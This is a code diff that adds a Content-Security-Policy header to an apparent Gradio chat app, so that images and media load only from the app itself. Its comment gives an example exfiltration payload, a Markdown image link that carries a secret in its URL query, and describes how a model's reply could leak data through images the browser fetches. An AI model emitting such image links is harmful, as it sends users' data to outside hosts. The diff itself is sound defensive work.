@@ -119,12 +119,19 @@ class Guard:
         }
 
 
+#: images and media only from the app itself: a model's reply is Markdown that Gradio renders,
+#: and an image it names (``![x](https://host/?d=secret)``, an <img>, a CSS background) would be
+#: fetched by the browser the moment it is shown, leaking what is in its URL
+CONTENT_SECURITY_POLICY = b"img-src 'self' data: blob:; media-src 'self' data: blob:"
+
+
 def no_referrer(send: Any) -> Any:
-    """``send`` that adds ``Referrer-Policy: same-origin``: the secret URL never leaves as a Referer."""
+    """``send`` that adds ``Referrer-Policy: same-origin`` (the secret URL never leaves as a Referer) and the CSP above."""
 
     async def wrapped(message: dict) -> None:
         if message["type"] == "http.response.start":
-            message = {**message, "headers": [*message.get("headers", ()), (b"referrer-policy", b"same-origin")]}
+            extra = [(b"referrer-policy", b"same-origin"), (b"content-security-policy", CONTENT_SECURITY_POLICY)]
+            message = {**message, "headers": [*message.get("headers", ()), *extra]}
         await send(message)
 
     return wrapped
